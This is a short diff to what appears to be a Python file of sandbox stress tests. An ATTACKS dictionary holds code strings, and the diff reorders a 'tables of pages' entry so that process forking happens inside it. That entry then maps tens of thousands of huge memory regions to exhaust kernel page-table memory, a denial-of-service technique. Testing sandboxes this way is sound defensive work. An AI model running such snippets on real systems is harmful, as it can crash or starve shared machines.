@@ -136,12 +136,12 @@ ATTACKS = {
             os.mkdir(f"/tmp/{n}")
     """,
     "tables of pages": """
-        for n in range(7):
-            if os.fork() == 0:
-                break
         with open("/tmp/page", "wb+") as file:
             file.write(bytes(4_096))
             file.flush()
+            for n in range(7):
+                if os.fork() == 0:
+                    break
             base = libc.mmap(None, ctypes.c_size_t(40_000 << 21), 0, 0x4022, -1, ctypes.c_long(0))
             for n in range(40_000):
                 place = base + (n << 21)
